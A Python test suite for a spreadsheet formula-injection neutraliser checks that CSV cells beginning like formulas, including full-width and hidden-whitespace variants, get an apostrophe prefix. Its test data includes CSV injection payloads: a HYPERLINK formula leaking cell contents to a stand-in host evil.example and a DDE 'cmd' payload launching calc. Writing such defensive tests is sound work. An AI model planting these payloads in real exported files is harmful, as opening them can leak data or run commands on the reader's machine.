"""What people open in a spreadsheet runs nothing."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from inbox_agent.safe_cells import StreamNeutraliser, safe_cell

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t1",
    "\r1",
    "\n1",
    "\0=1",
    "＝1",  # noqa: RUF001 - full-width, as East Asian keyboards write it
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "  =1+1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "-",
    "--5",
    "-5.2.1",
    "-5\n",
    "-\u0665",  # an Arabic-Indic five: a number to Python, words to a spreadsheet
    "+49 89 1234567",
)
PLAIN = (
    *("", "-5.2", "+3", "-.5", "-5.", "-1e-05", "1=2", "a@b.example", "Re: -2+3", "'=1", " a"),
    *("2026-11-21T14:05:00Z", "https://evil.example", "Grüße"),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_ordinary_words_stay(text: str) -> None:
    assert safe_cell(text) == text


#: What a reader that splits at `;`, tabs or line ends would begin a cell with, and what is made
#: of it.
WITHIN = (
    ("Offer;=1+1", "Offer;'=1+1"),
    (
        'x;=HYPERLINK("http://evil.example","Click")',
        'x;\'=HYPERLINK("http://evil.example","Click")',
    ),
    ("a\t@SUM(1)", "a\t'@SUM(1)"),
    ("a\r\n=1;  +1", "a\r\n'=1;'  +1"),
    ('a;"=1"', 'a;\'"=1"'),
    ('";"=1', '";\'"=1'),
    ("a;\u00a0＝1", "a;'\u00a0＝1"),  # noqa: RUF001
    ("10;-5", "10;'-5"),  # the next column would be read with it: -5,1+cmd|…
    ("=1;=1", "'=1;'=1"),
    ("\t=1", "'\t'=1"),
    ("a;-(1)", "a;'-(1)"),
)
PLAIN_WITHIN = (
    *("Minutes; points; owners", "until 5;30", "Thanks ;-)", "a;b=c", "Q3; Q4 - a look", "x;'=1"),
    *("a,=1", "one\r\ntwo", "Tom & Jerry; M&A", ";", "a;"),
)


@pytest.mark.parametrize(("text", "safe"), WITHIN)
def test_what_would_begin_a_formula_after_another_separator_gets_one_too(
    text: str, safe: str
) -> None:
    assert safe_cell(text) == safe


@pytest.mark.parametrize("text", PLAIN_WITHIN)
def test_ordinary_words_with_a_semicolon_stay(text: str) -> None:
    assert safe_cell(text) == text


_NASTY = st.lists(
    st.sampled_from([*";\t\r\n=+-@＝ \"'),\0", "1", "a", "\u00a0", ";-)"]),  # noqa: RUF001
    max_size=12,
).map("".join)


@given(st.text() | _NASTY)
def test_a_safe_cell_is_safe_and_loses_nothing(text: str) -> None:
    safe = safe_cell(text)
    assert safe.replace("'", "") == text.replace("'", "")
    assert safe_cell(safe) == safe


@given(st.lists(_NASTY, min_size=1, max_size=3))
def test_no_country_reads_a_formula_in_what_we_write(cells: list[str]) -> None:
    """The line as another reader splits it: no piece but the first begins like a formula."""
    line = neutralised(as_csv([cells]), 100).decode()
    for piece in re.split("[;\t\r\n]", line)[1:]:
        begins = piece.lstrip(' \u00a0\u200b\ufeff\0"')
        assert not begins.startswith(tuple("=+@＝")), line  # noqa: RUF001
        assert not begins.startswith("-") or begins.startswith("-)"), line


def as_csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def neutralised(data: bytes, size: int) -> bytes:
    stream = StreamNeutraliser()
    parts = [stream.feed(data[start : start + size]) for start in range(0, len(data), size)]
    assert not stream.is_inside_record
    return b"".join([*parts, stream.finish()])


# A lone carriage return splits a cell only where nothing is quoted, which no writer does.
CELLS = st.text(st.characters(codec="utf-8")) | st.sampled_from([*FORMULAS, '"', '""', ',"\r\n'])


@given(
    st.lists(st.lists(CELLS, min_size=1, max_size=4), max_size=6),
    st.integers(min_value=1, max_value=50),
)
def test_a_stream_is_made_safe_cell_by_cell_wherever_it_is_cut(
    rows: list[list[str]], size: int
) -> None:
    expected = as_csv([[safe_cell(cell) for cell in row] for row in rows])
    assert neutralised(as_csv(rows), size) == expected


def test_the_names_of_columns_are_made_safe_too() -> None:
    assert neutralised(b"=cmd,b\r\n1,2\r\n", 100) == b"'=cmd,b\r\n1,2\r\n"


def test_records_are_passed_on_as_soon_as_they_are_whole() -> None:
    stream = StreamNeutraliser()
    assert stream.feed(b'a,"b\r\n') == b""
    assert stream.is_inside_record
    assert stream.feed(b'c"\r\nd') == b'a,"b\r\nc"\r\n'
    assert stream.is_inside_record
    assert stream.feed(b",=1\r\n") == b"d,'=1\r\n"
    assert not stream.is_inside_record
    assert stream.finish() == b""


def test_a_last_line_without_an_end_is_made_safe() -> None:
    stream = StreamNeutraliser()
    assert stream.feed(b"a\r\n=1") == b"a\r\n"
    assert stream.finish() == b"'=1\r\n"


def test_a_very_long_cell_passes() -> None:
    row = [["=" + "x" * 300_000, "b"]]
    assert neutralised(as_csv(row), 65_536) == as_csv([["'" + row[0][0], "b"]])
